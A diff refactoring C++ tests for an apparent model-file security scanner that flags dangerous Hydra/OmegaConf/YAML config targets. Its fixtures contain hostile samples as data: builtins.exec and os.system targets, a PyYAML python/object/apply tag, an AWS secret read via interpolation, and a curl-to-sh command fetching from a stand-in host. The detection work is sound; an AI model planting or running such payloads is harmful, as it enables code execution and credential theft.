@@ -17,9 +17,6 @@
 
 using namespace stguard::test;
 using namespace stguard::test::audit_fixtures;
-using stguard::audit::Finding;
-using stguard::audit::Rule;
-using stguard::audit::Severity;
 
 namespace {
 
@@ -48,6 +45,13 @@ const Finding* finding_at(const stguard::audit::AuditReport& report, Rule rule, 
   return nullptr;
 }
 
+// The finding of `rule` at `path`, which the test requires to be there.
+const Finding& require_finding(const stguard::audit::AuditReport& report, Rule rule, const std::string& path) {
+  const Finding* found = finding_at(report, rule, path);
+  REQUIRE(found != nullptr);
+  return *found;
+}
+
 std::string all_findings(const stguard::audit::AuditReport& report) {
   std::string out;
   for (const Finding& finding : report.findings) {
@@ -68,19 +72,16 @@ TEST_CASE("config: a FlexTok-style config with _target_: builtins.exec", "[audit
       "config", R"j({"model": {"_target_": "builtins.exec", "_args_": ["import os; os.system('id')"]},)j"
                 R"j( "encoder": {"_target_": "flextok.model.Encoder", "dim": 512}})j");
   INFO(all_findings(report));
-  const Finding* exec = finding_at(report, Rule::config_dangerous_target, "model._target_");
-  REQUIRE(exec != nullptr);
-  CHECK(exec->severity == Severity::high);
-  CHECK(exec->metadata_key == "config");
-  CHECK(exec->message.find("builtins.exec") != std::string::npos);
-  CHECK(exec->message.find("code execution") != std::string::npos);
-  const Finding* encoder = finding_at(report, Rule::config_target, "encoder._target_");
-  REQUIRE(encoder != nullptr);
-  CHECK(encoder->severity == Severity::info);
-  CHECK(encoder->message.find("flextok.model.Encoder") != std::string::npos);
-  const Finding* script = finding_at(report, Rule::metadata_foreign_payload, "model._args_[0]");
-  REQUIRE(script != nullptr);
-  CHECK(script->message.find("Python source") != std::string::npos);
+  const Finding& exec = require_finding(report, Rule::config_dangerous_target, "model._target_");
+  CHECK(exec.severity == Severity::high);
+  CHECK(exec.metadata_key == "config");
+  CHECK(exec.message.find("builtins.exec") != std::string::npos);
+  CHECK(exec.message.find("code execution") != std::string::npos);
+  const Finding& encoder = require_finding(report, Rule::config_target, "encoder._target_");
+  CHECK(encoder.severity == Severity::info);
+  CHECK(encoder.message.find("flextok.model.Encoder") != std::string::npos);
+  const Finding& script = require_finding(report, Rule::metadata_foreign_payload, "model._args_[0]");
+  CHECK(script.message.find("Python source") != std::string::npos);
   CHECK(findings_of(report, Rule::config_dangerous_target).size() == 1);
 }
 
@@ -102,10 +103,9 @@ TEST_CASE("config: aliases and spellings of dangerous callables are high", "[aud
       const auto report = audit_value("cfg", R"({"fn": {"_target_": )" + json_string(callable) + "}}");
       INFO(all_findings(report));
       const Rule expected = expect_dangerous ? Rule::config_dangerous_target : Rule::config_target;
-      const Finding* finding = finding_at(report, expected, "fn._target_");
-      REQUIRE(finding != nullptr);
-      CHECK(finding->severity == (expect_dangerous ? Severity::high : Severity::info));
-      CHECK(finding->message.find(stguard::escape_for_display(callable)) != std::string::npos);
+      const Finding& finding = require_finding(report, expected, "fn._target_");
+      CHECK(finding.severity == (expect_dangerous ? Severity::high : Severity::info));
+      CHECK(finding.message.find(stguard::escape_for_display(callable)) != std::string::npos);
       // One directive, one config finding (a hidden character in the value is reported apart, as info).
       CHECK(findings_of(report, expected).size() == 1);
     }
@@ -115,23 +115,20 @@ TEST_CASE("config: aliases and spellings of dangerous callables are high", "[aud
 TEST_CASE("config: numpy.load is high only with allow_pickle", "[audit][config]") {
   const auto report = audit_value("cfg", R"({"data": {"_target_": "numpy.load", "allow_pickle": true}})");
   INFO(all_findings(report));
-  const Finding* finding = finding_at(report, Rule::config_dangerous_target, "data._target_");
-  REQUIRE(finding != nullptr);
-  CHECK(finding->message.find("allow_pickle") != std::string::npos);
+  const Finding& finding = require_finding(report, Rule::config_dangerous_target, "data._target_");
+  CHECK(finding.message.find("allow_pickle") != std::string::npos);
 }
 
 TEST_CASE("config: _partial_, _call_, repeated keys and computed targets", "[audit][config]") {
   SECTION("_partial_ before _target_: the loader gets os.system to call later") {
     const auto report = audit_value("cfg", R"({"hook": {"_partial_": true, "_target_": "subprocess.run"}})");
-    const Finding* finding = finding_at(report, Rule::config_dangerous_target, "hook._target_");
-    REQUIRE(finding != nullptr);
-    CHECK(finding->message.find("_partial_ is true") != std::string::npos);
+    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "hook._target_");
+    CHECK(finding.message.find("_partial_ is true") != std::string::npos);
   }
   SECTION("_call_: false still imports and returns the callable") {
     const auto report = audit_value("cfg", R"({"_target_": "os.system", "_call_": false})");
-    const Finding* finding = finding_at(report, Rule::config_dangerous_target, "_target_");
-    REQUIRE(finding != nullptr);
-    CHECK(finding->message.find("_call_ is false") != std::string::npos);
+    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "_target_");
+    CHECK(finding.message.find("_call_ is false") != std::string::npos);
   }
   SECTION("functools.partial around a name resolver") {
     const auto report = audit_value(
@@ -148,9 +145,8 @@ TEST_CASE("config: _partial_, _call_, repeated keys and computed targets", "[aud
   }
   SECTION("a target computed by interpolation cannot be checked: high") {
     const auto report = audit_value("cfg", R"({"name": "os.system", "run": {"_target_": "${name}"}})");
-    const Finding* finding = finding_at(report, Rule::config_dangerous_target, "run._target_");
-    REQUIRE(finding != nullptr);
-    CHECK(finding->message.find("interpolation") != std::string::npos);
+    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "run._target_");
+    CHECK(finding.message.find("interpolation") != std::string::npos);
   }
   SECTION("the __metadata__ block itself as a config") {
     const auto report = audit_metadata({{"_target_", "builtins.exec"}, {"_args_", "print(1)"}, {"_partial_", "true"}});
@@ -179,9 +175,8 @@ TEST_CASE("config: JSON nested in strings inside strings", "[audit][config]") {
   SECTION("a string value holding JSON continues the path") {
     const auto report = audit_value("cfg", "{\"model\": " + json_string(inner) + "}");
     INFO(all_findings(report));
-    const Finding* finding = finding_at(report, Rule::config_dangerous_target, "model._target_");
-    REQUIRE(finding != nullptr);
-    CHECK(finding->message.find("decoded from a string 1 level") != std::string::npos);
+    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "model._target_");
+    CHECK(finding.message.find("decoded from a string 1 level") != std::string::npos);
   }
   SECTION("the metadata value is a JSON string literal holding JSON") {
     const auto report = audit_value("cfg", json_string(inner));
@@ -213,9 +208,8 @@ TEST_CASE("config: YAML configs", "[audit][config]") {
     INFO(all_findings(report));
     CHECK(finding_at(report, Rule::config_dangerous_target, "model._target_") != nullptr);
     CHECK(finding_at(report, Rule::config_target, "layers[0]._target_") != nullptr);
-    const Finding* partial = finding_at(report, Rule::config_dangerous_target, "layers[1]._target_");
-    REQUIRE(partial != nullptr);
-    CHECK(partial->message.find("_partial_ is true") != std::string::npos);
+    const Finding& partial = require_finding(report, Rule::config_dangerous_target, "layers[1]._target_");
+    CHECK(partial.message.find("_partial_ is true") != std::string::npos);
     CHECK(finding_at(report, Rule::metadata_foreign_payload, "model._args_[0]") != nullptr);
   }
   SECTION("interpolations in YAML scalars") {
@@ -240,9 +234,8 @@ TEST_CASE("config: YAML configs", "[audit][config]") {
   SECTION("a _target_ given by a YAML alias can name anything: high") {
     const auto report = audit_value("cfg", "name: &fn os.system\nrun:\n  _target_: *fn\n");
     INFO(all_findings(report));
-    const Finding* finding = finding_at(report, Rule::config_dangerous_target, "run._target_");
-    REQUIRE(finding != nullptr);
-    CHECK(finding->message.find("alias *fn") != std::string::npos);
+    const Finding& finding = require_finding(report, Rule::config_dangerous_target, "run._target_");
+    CHECK(finding.message.find("alias *fn") != std::string::npos);
   }
   SECTION("PyYAML python/ tags") {
     auto report = audit_value("cfg", "!!python/object/apply:os.system [\"id\"]");
@@ -274,27 +267,23 @@ TEST_CASE("config: OmegaConf resolver interpolations", "[audit][config]") {
       "cfg", R"({"data": {"root": "${oc.env:HOME}/data"}, "x": "${eval:'__import__(\"os\")'}", "y": "${model.dim}",)"
              R"( "z": "outputs/${now:%Y-%m-%d}", "w": "\\${oc.env:NOT_ME}", "v": "${ oc.decode:${x}}", "u": "${my_resolver:1}"})");
   INFO(all_findings(report));
-  const Finding* env = finding_at(report, Rule::config_resolver_interpolation, "data.root");
-  REQUIRE(env != nullptr);
-  CHECK(env->severity == Severity::medium);
-  CHECK(env->message.find("environment") != std::string::npos);
-  const Finding* eval = finding_at(report, Rule::config_resolver_interpolation, "x");
-  REQUIRE(eval != nullptr);
-  CHECK(eval->severity == Severity::medium);
-  CHECK(eval->message.find("evaluates code") != std::string::npos);
+  const Finding& env = require_finding(report, Rule::config_resolver_interpolation, "data.root");
+  CHECK(env.severity == Severity::medium);
+  CHECK(env.message.find("environment") != std::string::npos);
+  const Finding& eval = require_finding(report, Rule::config_resolver_interpolation, "x");
+  CHECK(eval.severity == Severity::medium);
+  CHECK(eval.message.find("evaluates code") != std::string::npos);
   CHECK(finding_at(report, Rule::config_resolver_interpolation, "y") == nullptr);
-  const Finding* now = finding_at(report, Rule::config_resolver_interpolation, "z");
-  REQUIRE(now != nullptr);
-  CHECK(now->severity == Severity::info);
+  const Finding& now = require_finding(report, Rule::config_resolver_interpolation, "z");
+  CHECK(now.severity == Severity::info);
   CHECK(finding_at(report, Rule::config_resolver_interpolation, "w") == nullptr);
   CHECK(finding_at(report, Rule::config_resolver_interpolation, "v") != nullptr);
   CHECK(finding_at(report, Rule::config_resolver_interpolation, "u") != nullptr);
 
   const auto plain = audit_value("cache_dir", "${oc.env:AWS_SECRET_ACCESS_KEY}");
-  const Finding* top = finding_at(plain, Rule::config_resolver_interpolation, "");
-  REQUIRE(top != nullptr);
-  CHECK(top->metadata_key == "cache_dir");
-  CHECK(top->severity == Severity::medium);
+  const Finding& top = require_finding(plain, Rule::config_resolver_interpolation, "");
+  CHECK(top.metadata_key == "cache_dir");
+  CHECK(top.severity == Severity::medium);
 }
 
 // A real stored ZIP (one entry, archive/data.pkl, a five-byte pickle), base64: a truncated local
@@ -306,12 +295,10 @@ TEST_CASE("config: payloads and shell commands in config leaves use the foreign-
   const auto report = audit_value(
       "cfg", std::string(R"({"blob": ")") + kZipBase64 + R"(", "hook": {"cmd": "curl -s http://x.example/p.sh | sh"}})");
   INFO(all_findings(report));
-  const Finding* zip = finding_at(report, Rule::metadata_foreign_payload, "blob");
-  REQUIRE(zip != nullptr);
-  CHECK(zip->severity == Severity::high);
-  const Finding* shell = finding_at(report, Rule::metadata_foreign_payload, "hook.cmd");
-  REQUIRE(shell != nullptr);
-  CHECK(shell->message.find("shell command") != std::string::npos);
+  const Finding& zip = require_finding(report, Rule::metadata_foreign_payload, "blob");
+  CHECK(zip.severity == Severity::high);
+  const Finding& shell = require_finding(report, Rule::metadata_foreign_payload, "hook.cmd");
+  CHECK(shell.message.find("shell command") != std::string::npos);
   // Shell words glued to longer words are prose, not commands.
   const auto prose = audit_value("cfg", R"({"doc": "input | shape (B, T); see /bin/shared and refresh -c 3"})");
   INFO(all_findings(prose));
